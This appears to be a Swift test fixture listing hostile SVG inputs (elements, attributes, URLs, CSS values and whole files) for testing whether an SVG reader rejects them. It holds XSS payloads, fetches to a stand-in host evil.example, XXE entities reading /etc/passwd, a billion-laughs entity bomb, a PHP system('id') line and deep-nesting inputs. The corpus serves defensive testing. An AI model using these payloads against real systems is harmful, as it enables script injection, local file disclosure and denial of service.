@testable import Interchange

/// Drawings that were made to do harm, generated from what is known to have worked somewhere.
enum HostileDrawings {
  /// Elements that run, fetch or embed something.
  static let elements: [String] =
    [
      "<script>alert(1)</script>", "<script type=\"text/ecmascript\"><![CDATA[alert(1)]]></script>",
      "<script href=\"data:text/javascript,alert(1)\"/>", "<script xlink:href=\"https://evil.example/x.js\"/>",
      "<SCRIPT>alert(1)</SCRIPT>", "<s:script xmlns:s=\"http://www.w3.org/2000/svg\">alert(1)</s:script>",
      "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>",
      "<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
      "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"alert(1)\"/></foreignObject>",
      "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject>",
      "<iframe src=\"https://evil.example/\"/>", "<embed src=\"x\"/>", "<object data=\"x\"/>", "<audio src=\"x\"/>",
      "<video src=\"x\" onerror=\"alert(1)\"/>", "<handler>alert(1)</handler>", "<listener/>",
      "<image href=\"https://evil.example/x.png\"/>", "<image xlink:href=\"data:image/svg+xml;base64,PHN2Zy8+\"/>",
      "<feImage href=\"https://evil.example/x\"/>", "<filter id=\"f\"><feImage href=\"#x\"/></filter>",
      "<animate attributeName=\"href\" values=\"javascript:alert(1)\"/>", "<set attributeName=\"onload\" to=\"alert(1)\"/>",
      "<animateTransform/>", "<animateMotion/>", "<discard/>", "<mpath href=\"https://evil.example/#x\"/>",
      "<font-face><font-face-src><font-face-uri xlink:href=\"https://evil.example/f\"/></font-face-src></font-face>",
      "<cursor xlink:href=\"https://evil.example/c\"/>", "<link rel=\"stylesheet\" href=\"https://evil.example/\"/>",
      "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/>", "<form><input/></form>",
      "<math><mi href=\"javascript:alert(1)\"/></math>", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>",
      "<?xml-stylesheet href=\"https://evil.example/x.css\"?>", "<?php system('id'); ?>", "<!-- --><script/><!-- -->",
      "<title><script>alert(1)</script></title>", "<desc><image href=\"x\"/></desc>",
      "<tspan><script>alert(1)</script></tspan>", "<solidcolor/>", "<view/>", "<hatch/>", "<svg:svg xmlns:svg=\"urn:x\"/>",
    ]

  /// Attributes that run or fetch something.
  static let attributes: [String] =
    [
      "onload", "onclick", "onmouseover", "onfocus", "onbegin", "onend", "onrepeat", "onerror", "onwheel", "ONLOAD",
      "onanimationstart", "onpointerrawupdate", "formaction", "autofocus", "ping", "download", "srcdoc", "src",
    ].map { "\($0)=\"alert(1)\"" } + [
      "xml:base=\"https://evil.example/\"", "xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\"",
      "filter=\"url(https://evil.example/#f)\"", "cursor=\"url(https://evil.example/c),auto\"",
      "externalResourcesRequired=\"true\"", "systemLanguage=\"x\"", "requiredExtensions=\"https://evil.example/\"",
      "id=\"&quot;&gt;&lt;script&gt;\"", "viewBox=\"&quot; onload=&quot;alert(1)\"", "d=\"M0 0javascript:\"",
      "transform=\"url(https://evil.example/)\"", "transform=\"matrix(1) expression(alert(1))\"",
      "font-family=\"url(https://evil.example/f)\"", "font-family=\"x;}@import 'y'\"",
    ]

  /// Addresses that lead out or run something.
  static let addresses: [String] = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x0A;script:alert(1)", "&#106;avascript:alert(1)",
    " javascript:alert(1)", "\tjavascript:alert(1)", "vbscript:x", "data:text/html,&lt;b>",
    "data:image/svg+xml;base64,PHN2Zy8+", "https://evil.example/x.svg#a", "//evil.example/x", "/office/sign-out",
    "other.svg#a", "file:///etc/passwd", "blob:https://x", "#a&quot; onload=&quot;alert(1)", "#javascript&#58;alert(1)(",
    "?x#a", "http:#a", "# a", "#",
  ]

  /// Values of style that fetch, run or break out.
  static let styles: [String] = [
    "fill:url(https://evil.example/x)", "fill:url('javascript:alert(1)')", "fill:url(\"data:image/svg+xml,x\")",
    "background:url(https://evil.example/)", "behavior:url(x.htc)", "-moz-binding:url(https://evil.example/x#y)",
    "fill:expression(alert(1))", "width:expression(alert(1))", "fill:\\75rl(https://evil.example/)",
    "f\\69ll:url(https://evil.example/)", "fill:/**/url(https://evil.example/)", "fill:u/**/rl(https://evil.example/)",
    "fill:image-set('https://evil.example/x')", "fill:var(--x)", "--x:url(https://evil.example/)", "fill:red}*{fill:url(x)",
    "cursor:url(https://evil.example/),auto", "mask:url(https://evil.example/#m)", "clip-path:url(//evil.example/#c)",
    "marker:url(https://evil.example/#m)", "filter:url(#f)", "src:url(https://evil.example/f)",
    "font:1px url(https://evil.example/)", "content:url(https://evil.example/)", "fill:url(#a) url(https://evil.example/)",
    "stroke:URL(HTTPS://EVIL.EXAMPLE/)", "fill:url( # )", "fill:attr(href)", "animation:x 1s", "transition:all 1s",
  ]

  /// Whole files that no reader should let through.
  static let files: [[UInt8]] = {
    let root = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\">"
    let lol = (1...9).map { "<!ENTITY l\($0) \"\(String(repeating: "&l\($0 - 1);", count: 10))\">" }.joined()
    let texts = [
      "<!DOCTYPE svg>\(root)</svg>", "<!doctype svg>\(root)</svg>",
      "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\(root)</svg>",
      "<!DOCTYPE svg [<!ENTITY l0 \"lol\">\(lol)]>\(root)<text>&l9;</text></svg>",
      "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\(root)<text>&x;</text></svg>",
      "<!DOCTYPE svg [<!ENTITY % x SYSTEM \"https://evil.example/\">%x;]>\(root)</svg>",
      "\(root)<text>&x;</text></svg>", "\(root)<text>&nbsp;</text></svg>", "\(root)<text>&#0;</text></svg>",
      "\(root)<text>&#xD800;</text></svg>", "\(root)<text>&#x110000;</text></svg>", "\(root)<text>&#99999999999;</text></svg>",
      "\(root)<text>&amp</text></svg>", "\(root)<text>&#;</text></svg>", "\(root)<text>&#x;</text></svg>",
      "\(root)<text>&#-1;</text></svg>", "\(root)<text>&#+65;</text></svg>", "\(root)<![IGNORE[x]]></svg>",
      "\(root)</svg><script/>", "\(root)</svg>x", "x\(root)</svg>", "\(root)<g></svg></g>", "\(root)<g a=\"1\" a=\"2\"/></svg>",
      "\(root)<g a='<'/></svg>", "\(root)<g a=1/></svg>", "\(root)<g a/></svg>", "\(root)<g a=\"1\"b=\"2\"/></svg>",
      "\(root)<x:g/></svg>", "\(root)<g x:a=\"1\"/></svg>", "\(root)<:g/></svg>", "\(root)<g:/></svg>", "\(root)<a:b:c/></svg>",
      "\(root)<g xmlns:xml=\"urn:x\"/></svg>", "\(root)<g xmlns:p=\"\"/></svg>", "\(root)< g/></svg>", "\(root)<1/></svg>",
      "\(root)\u{1}</svg>", "\(root)<g a=\"\u{2}\"/></svg>", "\(root)<![CDATA[\u{3}]]></svg>", "<svg", "<", "<svg viewBox=\"0 0 1 1\"",
      "\(root)<!-- </svg>", "\(root)<![CDATA[ </svg>", "<?xml version=\"1.0\"", "\(root)</svg", "", " ",
      "<?xml version=\"1.0\" encoding=\"Shift_JIS\"?>\(root)</svg>", "<?xml version=\"1.0\" encoding='UTF-7'?>\(root)</svg>",
      "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\(root)</svg>", "\(root)" + String(repeating: "<g>", count: 100_000),
      root + String(repeating: "<g>", count: 60) + String(repeating: "</g>", count: 60) + "</svg>",
      root + String(repeating: "<g/>", count: 60_000) + "</svg>",
      root + "<g " + (0..<300).map { "a\($0)=\"1\"" }.joined(separator: " ") + "/></svg>",
      "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1e9 1e9\"/>", "<svg viewBox=\"0 0 -1 1\"/>",
    ]
    let wide = texts.prefix(1).flatMap { text in
      [[0xFF, 0xFE] + text.utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }, text.utf16.flatMap { [0, UInt8($0 & 255)] }]
    }
    let broken: [[UInt8]] = [Array(root.utf8) + [0xC0, 0xBC] + Array("</svg>".utf8), Array(root.utf8) + [0xFF, 0xFE]]
    return texts.map { Array($0.utf8) } + wide + broken
  }()
}
